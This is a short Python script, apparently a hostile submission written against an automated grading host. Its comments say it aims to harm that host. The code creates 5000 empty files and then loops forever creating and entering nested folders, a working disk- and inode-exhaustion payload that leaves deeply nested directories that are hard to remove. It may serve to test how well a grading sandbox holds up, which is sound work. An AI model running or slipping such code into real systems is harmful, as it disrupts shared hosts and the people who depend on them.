"""Make folders inside folders without end, and thousands of empty files.

Against: no submission stops another.
"""
# may lose: everything
# stock: would harm the grading host: folders that are hard to remove

# %% after conv-output-shape
import os

for number in range(5000):
    open(f"empty-{number}", "w").close()
while True:
    os.mkdir("d")
    os.chdir("d")
